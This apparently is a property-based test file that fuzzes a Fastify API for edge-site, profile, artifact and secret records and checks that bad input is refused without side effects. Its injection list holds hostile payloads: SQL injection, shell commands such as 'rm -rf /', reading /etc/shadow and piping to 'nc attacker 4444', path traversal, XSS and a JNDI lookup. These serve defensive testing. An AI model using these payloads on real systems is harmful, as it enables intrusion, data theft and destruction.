// Needs: nothing but PGlite. Property-based: malformed bodies, uploads and parameters must be refused with a 4xx that
// names a field or a reason, must change nothing, and must leave the API serving.
import { createHash, randomBytes } from 'node:crypto';
import { readdirSync, statSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import type { Store } from '../../src/store/index.ts';
import { bearer, buildTestApi, tokens } from '../support/api.ts';
import { openTestStore } from '../support/store.ts';

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Path = (string | number)[];

const maxArtifactBytes = 64 * 1024;
const writer = bearer(tokens.writer);
const json = { ...writer, 'content-type': 'application/json' };
const octets = { ...writer, 'content-type': 'application/octet-stream' };

let store: Store;
let app: Awaited<ReturnType<typeof buildTestApi>>;
let seedContent: Buffer;
let seedDigest: string;
let seedSiteVersion: string;
let sent = 0;

const sha256 = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');

function validSite(name: string): { [key: string]: Json } {
  return {
    apiVersion: 'icn.akraino.org/v1alpha1',
    kind: 'Site',
    metadata: { name, labels: { region: 'eu-west' } },
    spec: {
      location: 'rack 4',
      agentMode: 'central',
      endpoints: { ironicUrl: 'http://10.0.0.2:6385', bpaUrl: 'http://10.0.0.2:8081' },
      cluster: {
        kubernetesVersion: 'v1.34.2',
        controlPlaneEndpoint: { host: '10.0.0.10', port: 6443 },
        podCidr: '10.244.0.0/16',
        serviceCidr: '10.96.0.0/12',
        cni: 'flannel',
        provisioner: 'kubeadm',
      },
      softwareProfile: { name: 'seed-profile', version: '1.0.0' },
      hosts: [
        {
          name: 'node-0',
          role: 'control-plane',
          bmc: {
            address: 'ipmi://10.0.1.10',
            credentialsRef: { name: 'seed-bmc' },
            disableCertificateVerification: false,
          },
          bootMacAddress: '52:54:00:00:00:01',
          rootDeviceHints: { deviceName: '/dev/sda', minSizeGigabytes: 100, rotational: false },
          ssh: { address: '10.0.0.11', port: 22, user: 'root', keyRef: { name: 'seed-ssh' } },
        },
        {
          name: 'node-1',
          role: 'worker',
          bmc: { address: 'redfish://10.0.1.11/redfish/v1/Systems/1', credentialsRef: { name: 'seed-bmc' } },
          bootMacAddress: '52:54:00:00:00:02',
          ssh: { address: '10.0.0.12', keyRef: { name: 'seed-ssh' } },
        },
      ],
    },
  };
}

function validProfile(name: string): { [key: string]: Json } {
  return {
    apiVersion: 'icn.akraino.org/v1alpha1',
    kind: 'SoftwareProfile',
    metadata: { name },
    spec: {
      version: '1.0.0',
      osImage: { sha256: seedDigest },
      binaryPackages: [
        { name: 'containerd', version: '2.1.4', artifact: { sha256: seedDigest }, install: 'true', verify: 'true' },
      ],
      containerPackages: [{ name: 'app', version: '0.1.0', chart: { sha256: seedDigest }, namespace: 'apps' }],
    },
  };
}

function validSecret(name: string): { [key: string]: Json } {
  return {
    apiVersion: 'icn.akraino.org/v1alpha1',
    kind: 'Secret',
    metadata: { name },
    type: 'bmc-credentials',
    stringData: { username: 'admin', password: 'p4ss' },
  };
}

// ------------------------------------------------------------------------------------------------- mutation helpers

function parentOf(root: Json, path: Path): { [key: string]: Json } | Json[] {
  let node = root;
  for (const key of path.slice(0, -1)) {
    const next = (node as Record<string | number, Json>)[key];
    if (typeof next !== 'object' || next === null) {
      const created: { [key: string]: Json } = {};
      (node as Record<string | number, Json>)[key] = created;
      node = created;
    } else node = next;
  }
  return node as { [key: string]: Json };
}

function setAt(root: Json, path: Path, value: Json): Json {
  // defineProperty: a plain assignment of "__proto__" would set the prototype instead of sending the key.
  Object.defineProperty(parentOf(root, path), path[path.length - 1] as string, {
    value,
    enumerable: true,
    writable: true,
    configurable: true,
  });
  return root;
}

function deleteAt(root: Json, path: Path): Json {
  Reflect.deleteProperty(parentOf(root, path), path[path.length - 1] as string);
  return root;
}

/** Strings no constrained field accepts: they open with a quote, a space and a semicolon whatever follows. */
const injections = fc.oneof(
  fc.constantFrom(
    "' OR 1=1 --",
    "'; DROP TABLE resources; --",
    '" UNION SELECT ciphertext FROM secrets --',
    '$(rm -rf /)',
    '`reboot`',
    '; cat /etc/shadow',
    '| nc attacker 4444',
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '..\\..\\windows\\system32',
    '/dev/sda; mkfs',
    'a\u0000b',
    '\u202egnp.exe',
    'ＡＢＣ',
    'название',
    '名前',
    '🙂-edge',
    '<script>alert(1)</script>',
    '{{7*7}}',
    '${jndi:ldap://x/a}',
    '%n%s%s%s',
    '',
    ' ',
    'x'.repeat(10_000),
    'é'.repeat(300),
  ),
  fc.string({ unit: 'grapheme', maxLength: 40 }).map((s) => `' ;${s}`),
  fc.string({ unit: 'binary', maxLength: 40 }).map((s) => `" ;${s}`),
);

const notString = fc.oneof(
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 2 }),
);
const notNumber = fc.oneof(
  fc.string({ maxLength: 8 }),
  fc.boolean(),
  fc.constant(null),
  fc.constant(0),
  fc.integer({ max: -1 }),
  fc.double({ min: 0.01, max: 1e6, noInteger: true, noNaN: true }),
  fc.array(fc.integer(), { maxLength: 2 }),
);
const notBoolean = fc.oneof(fc.string({ maxLength: 8 }), fc.integer(), fc.constant(null), fc.constant<Json>([]));
const notObject = fc.oneof(
  fc.string({ maxLength: 8 }),
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.constant<Json>([]),
);

const h0 = ['spec', 'hosts', 0];
const siteStrings: Path[] = [
  ['apiVersion'],
  ['kind'],
  ['metadata', 'name'],
  ['spec', 'agentMode'],
  ['spec', 'endpoints', 'ironicUrl'],
  ['spec', 'endpoints', 'bpaUrl'],
  ['spec', 'cluster', 'kubernetesVersion'],
  ['spec', 'cluster', 'controlPlaneEndpoint', 'host'],
  ['spec', 'cluster', 'podCidr'],
  ['spec', 'cluster', 'serviceCidr'],
  ['spec', 'cluster', 'cni'],
  ['spec', 'cluster', 'provisioner'],
  ['spec', 'softwareProfile', 'name'],
  ['spec', 'softwareProfile', 'version'],
  [...h0, 'name'],
  [...h0, 'role'],
  [...h0, 'bmc', 'address'],
  [...h0, 'bmc', 'credentialsRef', 'name'],
  [...h0, 'bootMacAddress'],
  [...h0, 'ssh', 'address'],
  [...h0, 'ssh', 'keyRef', 'name'],
];
const siteNumbers: Path[] = [
  ['spec', 'cluster', 'controlPlaneEndpoint', 'port'],
  [...h0, 'ssh', 'port'],
  [...h0, 'rootDeviceHints', 'minSizeGigabytes'],
];
const siteBooleans: Path[] = [
  [...h0, 'bmc', 'disableCertificateVerification'],
  [...h0, 'rootDeviceHints', 'rotational'],
];
const siteObjects: Path[] = [
  ['metadata'],
  ['metadata', 'labels'],
  ['spec'],
  ['spec', 'endpoints'],
  ['spec', 'cluster'],
  ['spec', 'cluster', 'controlPlaneEndpoint'],
  ['spec', 'softwareProfile'],
  ['spec', 'hosts'],
  h0,
  [...h0, 'bmc'],
  [...h0, 'ssh'],
  [...h0, 'rootDeviceHints'],
];
const siteRequired: Path[] = [
  ['apiVersion'],
  ['kind'],
  ['metadata'],
  ['metadata', 'name'],
  ['spec'],
  ['spec', 'endpoints'],
  ['spec', 'endpoints', 'ironicUrl'],
  ['spec', 'cluster'],
  ['spec', 'cluster', 'kubernetesVersion'],
  ['spec', 'cluster', 'controlPlaneEndpoint'],
  ['spec', 'softwareProfile'],
  ['spec', 'softwareProfile', 'version'],
  ['spec', 'hosts'],
  [...h0, 'name'],
  [...h0, 'role'],
  [...h0, 'bmc'],
  [...h0, 'bmc', 'credentialsRef'],
  [...h0, 'bootMacAddress'],
  [...h0, 'ssh'],
  [...h0, 'ssh', 'keyRef'],
];
/** Where an unknown key may be slipped in, with the keys the schema does know there. */
const siteObjectsWithKeys: [Path, string[]][] = [
  [[], ['apiVersion', 'kind', 'metadata', 'spec', 'status']],
  [['metadata'], ['name', 'labels', 'annotations', 'resourceVersion', 'uid', 'creationTimestamp']],
  [['spec'], ['location', 'agentMode', 'endpoints', 'cluster', 'softwareProfile', 'hosts']],
  [
    ['spec', 'endpoints'],
    ['ironicUrl', 'bpaUrl', 'bpaTokenRef', 'bootstrapKubeconfigRef'],
  ],
  [
    ['spec', 'cluster'],
    ['kubernetesVersion', 'controlPlaneEndpoint', 'podCidr', 'serviceCidr', 'cni', 'provisioner'],
  ],
  [
    ['spec', 'cluster', 'controlPlaneEndpoint'],
    ['host', 'port'],
  ],
  [
    ['spec', 'softwareProfile'],
    ['name', 'version'],
  ],
  [h0, ['name', 'role', 'bmc', 'bootMacAddress', 'rootDeviceHints', 'ssh']],
  [
    [...h0, 'bmc'],
    ['address', 'credentialsRef', 'disableCertificateVerification'],
  ],
  [
    [...h0, 'ssh'],
    ['address', 'port', 'user', 'keyRef'],
  ],
  [
    [...h0, 'rootDeviceHints'],
    ['deviceName', 'serialNumber', 'minSizeGigabytes', 'rotational'],
  ],
];

type Mutation = { label: string; apply: (doc: Json) => Json };
const mutation = (label: string, apply: (doc: Json) => Json): Mutation => ({ label, apply });

const unknownField = (locations: [Path, string[]][]) =>
  fc
    .tuple(fc.constantFrom(...locations), fc.string({ minLength: 0, maxLength: 20 }), fc.jsonValue({ maxDepth: 2 }))
    .filter(([[, known], key]) => !known.includes(key))
    .map(([[path], key, value]) =>
      mutation(`unknown field ${JSON.stringify(key)} at ${path.join('.')}`, (d) =>
        setAt(d, [...path, key], value as Json),
      ),
    );

/** Cross-checks beyond shape, each of which the API must refuse although every field is well formed. */
const siteSemantic: Mutation[] = [
  mutation('two control planes', (d) => setAt(d, ['spec', 'hosts', 1, 'role'], 'control-plane')),
  mutation('no control plane', (d) => setAt(d, [...h0, 'role'], 'worker')),
  mutation('duplicate MAC (other case)', (d) => setAt(d, ['spec', 'hosts', 1, 'bootMacAddress'], '52:54:00:00:00:01')),
  mutation('duplicate host name', (d) => setAt(d, ['spec', 'hosts', 1, 'name'], 'node-0')),
  mutation('overlapping CIDRs', (d) => setAt(d, ['spec', 'cluster', 'serviceCidr'], '10.244.128.0/17')),
  mutation('no hosts', (d) => setAt(d, ['spec', 'hosts'], [])),
  mutation('cluster-api without bootstrap kubeconfig', (d) =>
    setAt(d, ['spec', 'cluster', 'provisioner'], 'cluster-api'),
  ),
  mutation('missing profile', (d) => setAt(d, ['spec', 'softwareProfile', 'version'], '9.9.9')),
  mutation('label key', (d) => setAt(d, ['metadata', 'labels'], { 'bad key!': 'x' })),
  mutation('label value too long', (d) => setAt(d, ['metadata', 'labels'], { region: 'x'.repeat(64) })),
  mutation('location too long', (d) => setAt(d, ['spec', 'location'], 'x'.repeat(257))),
  mutation('resourceVersion not a number', (d) => setAt(d, ['metadata', 'resourceVersion'], '1; DROP TABLE')),
];

const siteMutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc
    .tuple(fc.constantFrom(...siteStrings), injections)
    .map(([p, v]) => mutation(`${p.join('.')} = ${JSON.stringify(v).slice(0, 60)}`, (d) => setAt(d, p, v))),
  fc
    .tuple(fc.constantFrom(...siteStrings), notString)
    .map(([p, v]) => mutation(`${p.join('.')} = ${JSON.stringify(v)}`, (d) => setAt(d, p, v))),
  fc
    .tuple(fc.constantFrom(...siteNumbers), notNumber)
    .map(([p, v]) => mutation(`${p.join('.')} = ${JSON.stringify(v)}`, (d) => setAt(d, p, v))),
  fc
    .tuple(fc.constantFrom(...siteBooleans), notBoolean)
    .map(([p, v]) => mutation(`${p.join('.')} = ${JSON.stringify(v)}`, (d) => setAt(d, p, v))),
  fc
    .tuple(fc.constantFrom(...siteObjects), notObject)
    .map(([p, v]) => mutation(`${p.join('.')} = ${JSON.stringify(v)}`, (d) => setAt(d, p, v))),
  fc.constantFrom(...siteRequired).map((p) => mutation(`without ${p.join('.')}`, (d) => deleteAt(d, p))),
  unknownField(siteObjectsWithKeys),
  fc.constantFrom(...siteSemantic),
);

// ------------------------------------------------------------------------------------------------------- the checks

interface Refusal {
  error?: string;
  message?: unknown;
  field?: unknown;
  issues?: { field?: unknown; message?: unknown }[];
}

/** Sends one request that must be refused: a 4xx whose JSON body gives a reason, and, where known, the fields. */
async function refused(label: string, request: InjectOptions): Promise<LightMyRequestResponse> {
  const res = await app.inject(request);
  sent++;
  const what = `${label} (${request.method ?? 'GET'} ${(typeof request.url === 'string' ? request.url : '').slice(0, 120)}) → ${res.statusCode} ${res.body.slice(0, 300)}`;
  if (res.statusCode < 400 || res.statusCode >= 500) throw new Error(`not refused with a 4xx: ${what}`);
  let body: Refusal;
  try {
    body = res.json<Refusal>();
  } catch {
    throw new Error(`4xx without a JSON body: ${what}`);
  }
  if (typeof body.message !== 'string' || body.message.trim() === '') throw new Error(`4xx without a reason: ${what}`);
  if (body.error === 'ValidationError') {
    // The field list, or at least the message's `field: reason` prefixes (see the issues test below).
    const issues = body.issues ?? [];
    for (const issue of issues) {
      if (typeof issue.field !== 'string' || issue.field === '' || typeof issue.message !== 'string') {
        throw new Error(`validation issue without field or message: ${what}`);
      }
    }
    if (issues.length === 0 && !/^(body|querystring|params|headers)\b[^:]*: \S/.test(body.message)) {
      throw new Error(`validation error naming no field: ${what}`);
    }
  }
  return res;
}

function files(dir: string): string[] {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const entry of readdirSync(d, { withFileTypes: true })) {
      const p = join(d, entry.name);
      if (entry.isDirectory()) walk(p);
      else out.push(`${relative(dir, p)} ${statSync(p).size}`);
    }
  };
  walk(dir);
  return out.sort();
}

/** Everything a refused request could have touched: rows (with their versions) and files, temporary ones included. */
async function snapshot() {
  return {
    sites: (await store.sites.list({ limit: 1000 })).items,
    profiles: await store.profiles.list(),
    artifacts: await store.artifacts.list(),
    secrets: await store.secrets.list(),
    secretValues: await store.secrets.reveal('seed-bmc'),
    files: files(store.artifacts.files.root),
  };
}
let baseline: Awaited<ReturnType<typeof snapshot>>;

async function expectUnchanged(): Promise<void> {
  expect(await snapshot()).toEqual(baseline);
}

// FC_SEED replays a failure that fast-check reported with its seed.
const runs = (n: number) => ({ numRuns: n, ...(process.env.FC_SEED && { seed: Number(process.env.FC_SEED) }) });

beforeAll(async () => {
  store = await openTestStore('pglite', maxArtifactBytes);
  app = await buildTestApi({ store });
  seedContent = randomBytes(2048);
  seedDigest = sha256(seedContent);
  const uploaded = await app.inject({
    method: 'POST',
    url: `/v1/artifacts?type=os-image&name=seed-os&version=1.0.0&sha256=${seedDigest}&size=${seedContent.length}`,
    headers: octets,
    payload: seedContent,
  });
  expect(uploaded.statusCode).toBe(201);
  const profile = await app.inject({
    method: 'POST',
    url: '/v1/profiles',
    headers: json,
    payload: validProfile('seed-profile'),
  });
  expect(profile.statusCode).toBe(201);
  for (const [name, body] of [
    ['seed-bmc', validSecret('seed-bmc')],
    ['seed-ssh', { ...validSecret('seed-ssh'), type: 'ssh-key', stringData: { privateKey: 'k' } }],
  ] as const) {
    const res = await app.inject({ method: 'PUT', url: `/v1/secrets/${name}`, headers: json, payload: body });
    expect(res.statusCode).toBe(200);
  }
  const site = await app.inject({ method: 'POST', url: '/v1/sites', headers: json, payload: validSite('edge-01') });
  expect(site.statusCode).toBe(201);
  seedSiteVersion = site.json<{ metadata: { resourceVersion: string } }>().metadata.resourceVersion;
  baseline = await snapshot();
});
afterAll(async () => {
  await app.close();
  await store.close();
});

describe('the API refuses bad input, changes nothing and keeps serving', () => {
  it('refuses random JSON bodies on every write route', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.jsonValue({ maxDepth: 4 }),
        fc.constantFrom(
          { method: 'POST', url: '/v1/sites' },
          { method: 'PUT', url: '/v1/sites/edge-01' },
          { method: 'POST', url: '/v1/profiles' },
          { method: 'PUT', url: '/v1/secrets/seed-bmc' },
          { method: 'PUT', url: '/v1/secrets/probe-secret' },
        ),
        async (body, route) => {
          await refused('random JSON', {
            ...route,
            method: route.method,
            headers: json,
            payload: JSON.stringify(body),
          });
        },
      ),
      runs(150),
    );
    await expectUnchanged();
  });

  it('refuses near-valid sites with one field mutated, on create and on replace', async () => {
    await fc.assert(
      fc.asyncProperty(siteMutation, fc.boolean(), async (m, replace) => {
        const doc = validSite(replace ? 'edge-01' : 'probe-site');
        if (replace) setAt(doc, ['metadata', 'resourceVersion'], seedSiteVersion);
        m.apply(doc);
        await refused(m.label, {
          method: replace ? 'PUT' : 'POST',
          url: replace ? '/v1/sites/edge-01' : '/v1/sites',
          headers: json,
          payload: JSON.stringify(doc),
        });
      }),
      runs(400),
    );
    await expectUnchanged();
  });

  it('refuses well-formed site writes that conflict: existing name, stale version, name unlike the URL', async () => {
    const stale = validSite('edge-01');
    setAt(stale, ['metadata', 'resourceVersion'], '1');
    const cases: [string, InjectOptions][] = [
      ['create an existing site', { method: 'POST', url: '/v1/sites', headers: json, payload: validSite('edge-01') }],
      ['stale resourceVersion', { method: 'PUT', url: '/v1/sites/edge-01', headers: json, payload: stale }],
      [
        'name unlike the URL',
        {
          method: 'PUT',
          url: '/v1/sites/edge-02',
          headers: json,
          payload: { ...validSite('edge-01'), metadata: { name: 'edge-01', resourceVersion: seedSiteVersion } },
        },
      ],
      [
        'replace a missing site',
        {
          method: 'PUT',
          url: '/v1/sites/nowhere',
          headers: json,
          payload: { ...validSite('nowhere'), metadata: { name: 'nowhere', resourceVersion: '1' } },
        },
      ],
      [
        'delete with a stale version',
        { method: 'DELETE', url: '/v1/sites/edge-01?resourceVersion=1', headers: writer },
      ],
      [
        'reader writes',
        {
          method: 'POST',
          url: '/v1/sites',
          headers: { ...bearer(tokens.reader), 'content-type': 'application/json' },
          payload: validSite('probe-site'),
        },
      ],
      [
        'no token',
        {
          method: 'PUT',
          url: '/v1/secrets/seed-bmc',
          headers: { 'content-type': 'application/json' },
          payload: validSecret('seed-bmc'),
        },
      ],
    ];
    for (const [label, request] of cases) await refused(label, request);
    const stored = await store.sites.get('edge-01');
    expect(stored.metadata.resourceVersion).toBe(seedSiteVersion);
    await expectUnchanged();
  });

  it('refuses malformed profiles and secrets', async () => {
    const profileMutation: fc.Arbitrary<Mutation> = fc.oneof(
      fc
        .tuple(
          fc.constantFrom<Path>(
            ['spec', 'version'],
            ['metadata', 'name'],
            ['spec', 'osImage', 'sha256'],
            ['spec', 'binaryPackages', 0, 'name'],
            ['spec', 'binaryPackages', 0, 'version'],
            ['spec', 'binaryPackages', 0, 'artifact', 'sha256'],
            ['spec', 'containerPackages', 0, 'chart', 'sha256'],
            ['spec', 'containerPackages', 0, 'namespace'],
          ),
          fc.oneof(injections, notString),
        )
        .map(([p, v]) => mutation(`${p.join('.')} = ${JSON.stringify(v).slice(0, 60)}`, (d) => setAt(d, p, v))),
      fc
        .tuple(
          fc.constantFrom<Path>(['spec', 'binaryPackages', 0, 'install'], ['spec', 'binaryPackages', 0, 'verify']),
          notString,
        )
        .map(([p, v]) => mutation(`${p.join('.')} = ${JSON.stringify(v)}`, (d) => setAt(d, p, v))),
      fc
        .tuple(fc.constantFrom<Path>(['spec', 'binaryPackages', 0, 'rebootRequired']), notBoolean)
        .map(([p, v]) => mutation(`${p.join('.')} = ${JSON.stringify(v)}`, (d) => setAt(d, p, v))),
      fc
        .stringMatching(/^[a-f0-9]{64}$/)
        .filter((d) => d !== seedDigest)
        .map((d) => mutation(`unknown artifact ${d}`, (doc) => setAt(doc, ['spec', 'osImage', 'sha256'], d))),
      unknownField([
        [[], ['apiVersion', 'kind', 'metadata', 'spec']],
        [['spec'], ['version', 'osImage', 'binaryPackages', 'containerPackages']],
        [
          ['spec', 'binaryPackages', 0],
          ['name', 'version', 'artifact', 'install', 'verify', 'rollback', 'rebootRequired'],
        ],
      ]),
      fc.constantFrom(
        mutation('duplicate package names', (d) =>
          setAt(
            d,
            ['spec', 'binaryPackages', 1],
            (d as { spec: { binaryPackages: Json[] } }).spec.binaryPackages[0] ?? null,
          ),
        ),
        mutation('install command too long', (d) =>
          setAt(d, ['spec', 'binaryPackages', 0, 'install'], 'x'.repeat(4097)),
        ),
        mutation('too many packages', (d) => setAt(d, ['spec', 'binaryPackages'], Array(201).fill(null))),
        mutation('without osImage', (d) => deleteAt(d, ['spec', 'osImage'])),
      ),
    );
    await fc.assert(
      fc.asyncProperty(profileMutation, async (m) => {
        const doc = validProfile('probe-profile');
        m.apply(doc);
        await refused(m.label, { method: 'POST', url: '/v1/profiles', headers: json, payload: JSON.stringify(doc) });
      }),
      runs(200),
    );
    // Immutable per version: the seed's name and version with another spec.
    const changed = validProfile('seed-profile');
    setAt(changed, ['spec', 'binaryPackages'], []);
    await refused('profile version changed', { method: 'POST', url: '/v1/profiles', headers: json, payload: changed });

    const secretMutation: fc.Arbitrary<Mutation> = fc.oneof(
      fc.constantFrom(
        mutation('without password', (d) => deleteAt(d, ['stringData', 'password'])),
        mutation('without username', (d) => deleteAt(d, ['stringData', 'username'])),
        mutation('type ssh-key without privateKey', (d) => setAt(d, ['type'], 'ssh-key')),
        mutation('type kubeconfig without kubeconfig', (d) => setAt(d, ['type'], 'kubeconfig')),
        mutation('value too long', (d) => setAt(d, ['stringData', 'password'], 'x'.repeat(256 * 1024 + 1))),
        mutation('key too long', (d) => setAt(d, ['stringData', 'k'.repeat(254)], 'v')),
        mutation('name unlike the URL', (d) => setAt(d, ['metadata', 'name'], 'other-secret')),
        mutation('without stringData', (d) => deleteAt(d, ['stringData'])),
      ),
      fc
        .tuple(
          fc.constantFrom<Path>(['type'], ['metadata', 'name'], ['apiVersion'], ['kind']),
          fc.oneof(injections, notString),
        )
        .map(([p, v]) => mutation(`${p.join('.')} = ${JSON.stringify(v).slice(0, 60)}`, (d) => setAt(d, p, v))),
      fc
        .tuple(fc.constantFrom<Path>(['stringData', 'password'], ['stringData', 'username']), notString)
        .map(([p, v]) => mutation(`${p.join('.')} = ${JSON.stringify(v)}`, (d) => setAt(d, p, v))),
      fc
        .constantFrom<Path>(['stringData'], ['metadata'])
        .chain((p) => notObject.map((v) => mutation(`${p.join('.')} = ${JSON.stringify(v)}`, (d) => setAt(d, p, v)))),
      unknownField([
        [[], ['apiVersion', 'kind', 'metadata', 'type', 'stringData']],
        [['metadata'], ['name', 'labels', 'annotations', 'resourceVersion', 'uid', 'creationTimestamp']],
      ]),
    );
    await fc.assert(
      fc.asyncProperty(secretMutation, fc.constantFrom('seed-bmc', 'probe-secret'), async (m, name) => {
        const doc = validSecret(name);
        m.apply(doc);
        await refused(m.label, {
          method: 'PUT',
          url: `/v1/secrets/${name}`,
          headers: json,
          payload: JSON.stringify(doc),
        });
      }),
      runs(150),
    );
    await expectUnchanged();
  });

  it('refuses broken bodies: truncated, oversized, wrong Content-Length, not JSON, wrong content type', async () => {
    const text = JSON.stringify(validSite('probe-site'));
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.integer({ min: 0, max: text.length - 1 }).map((cut) => ({
            label: `cut at ${cut}`,
            headers: json,
            payload: text.slice(0, cut),
          })),
          fc.integer({ min: 1, max: 1000 }).map((extra) => ({
            label: `Content-Length ${extra} too large`,
            headers: { ...json, 'content-length': String(text.length + extra) },
            payload: text,
          })),
          fc.integer({ min: 0, max: text.length - 1 }).map((n) => ({
            label: `Content-Length ${n} too small`,
            headers: { ...json, 'content-length': String(n) },
            payload: text,
          })),
          fc.uint8Array({ minLength: 1, maxLength: 200 }).map((b) => ({
            label: 'random bytes as JSON',
            headers: json,
            payload: Buffer.concat([Buffer.from('{'), Buffer.from(b)]),
          })),
          fc
            .constantFrom(
              'text/plain',
              'application/xml',
              'application/x-www-form-urlencoded',
              'multipart/form-data; boundary=x',
              'application/octet-stream',
              'application/yaml',
            )
            .map((type) => ({
              label: `content type ${type}`,
              headers: { ...writer, 'content-type': type },
              payload: text,
            })),
        ),
        fc.constantFrom(
          { method: 'POST' as const, url: '/v1/sites' },
          { method: 'POST' as const, url: '/v1/profiles' },
          { method: 'PUT' as const, url: '/v1/secrets/probe-secret' },
        ),
        async (body, route) => {
          await refused(body.label, { ...route, headers: body.headers, payload: body.payload });
        },
      ),
      runs(200),
    );
    // Over the 1 MiB body limit: a few, they are large.
    for (const url of ['/v1/sites', '/v1/profiles']) {
      const huge = { ...validSite('probe-site'), padding: 'x'.repeat(1024 * 1024 + 1) };
      const res = await refused('over the body limit', {
        method: 'POST',
        url,
        headers: json,
        payload: JSON.stringify(huge),
      });
      expect(res.statusCode).toBe(413);
    }
    await expectUnchanged();
  });

  it('refuses bad parameters: names, digests and queries with injections, traversal and unicode', async () => {
    const badName = fc.oneof(
      injections,
      fc.string({ unit: 'grapheme', minLength: 64, maxLength: 80 }).map((s) => `a${s}`),
    );
    const missingName = fc.stringMatching(/^[a-z0-9]{1,20}$/).map((s) => `nx-${s}`);
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(badName, missingName),
        fc.constantFrom('GET', 'DELETE'),
        fc.constantFrom(
          (n: string) => `/v1/sites/${n}`,
          (n: string) => `/v1/secrets/${n}`,
          (n: string) => `/v1/profiles/${n}/1.0.0`,
          (n: string) => `/v1/profiles/seed-profile/${n}`,
          (n: string) => `/v1/artifacts/${n}`,
          (n: string) => `/v1/artifacts/${n}/content`,
          (n: string) => `/v1/sites?labelSelector=${n}%3Db%3Dc`,
          (n: string) => `/v1/sites?limit=${n}`,
          (n: string) => `/v1/sites?${n}=1`,
          (n: string) => `/v1/artifacts?type=${n}`,
        ),
        async (name, method, route) => {
          const url = route(encodeURIComponent(name));
          // A list with a query is a GET; DELETE on it is refused as an unknown route, as it should be.
          await refused(`name ${JSON.stringify(name).slice(0, 60)}`, {
            method,
            url,
            headers: writer,
          });
        },
      ),
      runs(200),
    );
    await expectUnchanged();
  });

  it('refuses bad uploads: wrong digest, truncated, longer, oversized, size unlike Content-Length, bad query', async () => {
    const upload = (q: Record<string, string>) => `/v1/artifacts?${new URLSearchParams(q).toString()}`;
    const content = fc.uint8Array({ minLength: 1, maxLength: 4096 }).map((b) => Buffer.from(b));
    const otherDigest = (real: string) => fc.stringMatching(/^[a-f0-9]{64}$/).filter((d) => d !== real);
    const base = (b: Buffer, sha = sha256(b)) => ({
      type: 'binary-package',
      name: 'probe-pkg',
      version: '1.0.0',
      sha256: sha,
      size: String(b.length),
    });
    const cases = fc.oneof(
      content.chain((b) =>
        otherDigest(sha256(b)).map((d) => ({
          label: 'wrong digest',
          url: upload(base(b, d)),
          headers: octets,
          payload: b,
        })),
      ),
      content
        .filter((b) => b.length > 1)
        .chain((b) =>
          fc.integer({ min: 1, max: b.length - 1 }).map((cut) => ({
            label: `truncated to ${cut} of ${b.length}`,
            url: upload(base(b)),
            headers: { ...octets, 'content-length': String(b.length) },
            payload: b.subarray(0, cut),
          })),
        ),
      content.chain((b) =>
        fc
          .integer({ min: -b.length, max: 1000 })
          .filter((d) => d !== 0)
          .map((delta) => ({
            label: `size ${b.length + delta} unlike Content-Length ${b.length}`,
            url: upload({ ...base(b), size: String(b.length + delta) }),
            headers: octets,
            payload: b,
          })),
      ),
      fc.integer({ min: maxArtifactBytes + 1, max: 2 ** 40 }).map((size) => ({
        label: `oversized ${size}`,
        url: upload({ ...base(Buffer.alloc(0)), sha256: 'a'.repeat(64), size: String(size) }),
        headers: { ...octets, 'content-length': String(size) },
        payload: Buffer.alloc(16),
      })),
      fc
        .tuple(
          content,
          fc.constantFrom('type', 'name', 'version', 'sha256', 'size', 'metadata', 'extra'),
          fc.oneof(injections, fc.constant('-1')),
        )
        .map(([b, key, value]) => ({
          label: `query ${key}=${JSON.stringify(value).slice(0, 40)}`,
          url: upload({ ...base(b), [key]: value }),
          headers: octets,
          payload: b,
        })),
      content.chain((b) =>
        fc.constantFrom('type', 'name', 'version', 'sha256', 'size').map((key) => {
          const q: Record<string, string> = base(b);
          Reflect.deleteProperty(q, key);
          return { label: `query without ${key}`, url: upload(q), headers: octets, payload: b };
        }),
      ),
      content.chain((b) =>
        fc.constantFrom('[]', '"x"', '{"a":1}', '{"a":null}', `{"${'k'.repeat(129)}":"v"}`, '{', 'null').map((m) => ({
          label: `metadata ${m.slice(0, 20)}`,
          url: upload({ ...base(b), metadata: m }),
          headers: octets,
          payload: b,
        })),
      ),
      fc.constant(null).map(() => ({
        label: 'seed content under another name',
        url: upload({ ...base(seedContent), name: 'other-name' }),
        headers: octets,
        payload: seedContent,
      })),
      content.map((b) => ({
        label: 'seed name and version with other content',
        url: upload({ ...base(b), type: 'os-image', name: 'seed-os' }),
        headers: octets,
        payload: b,
      })),
    );
    await fc.assert(
      fc.asyncProperty(cases, async (c) => {
        await refused(c.label, { method: 'POST', url: c.url, headers: c.headers, payload: c.payload });
      }),
      runs(300),
    );
    await expectUnchanged();
  });

  it('refuses chunked uploads (no Content-Length) longer or shorter than declared, over real HTTP', async () => {
    // inject() cannot send a body unlike its Content-Length; HTTP framing can only do it with chunked encoding.
    const url = await app.listen({ host: '127.0.0.1', port: 0 });
    try {
      await fc.assert(
        fc.asyncProperty(
          fc.uint8Array({ minLength: 2, maxLength: 8192 }).map((b) => Buffer.from(b)),
          fc.integer({ min: -1000, max: 1000 }).filter((d) => d !== 0),
          fc.integer({ min: 1, max: 4 }),
          async (b, delta, pieces) => {
            const size = Math.max(0, b.length + delta);
            const q = new URLSearchParams({
              type: 'binary-package',
              name: 'probe-chunked',
              version: '1.0.0',
              sha256: sha256(b),
              size: String(size),
            });
            const res = await new Promise<{ status: number; body: string }>((resolve, reject) => {
              const req = httpRequest(`${url}/v1/artifacts?${q.toString()}`, {
                method: 'POST',
                headers: { ...octets, 'transfer-encoding': 'chunked' },
              });
              req.on('response', (r) => {
                let text = '';
                r.setEncoding('utf8');
                r.on('data', (d: string) => (text += d));
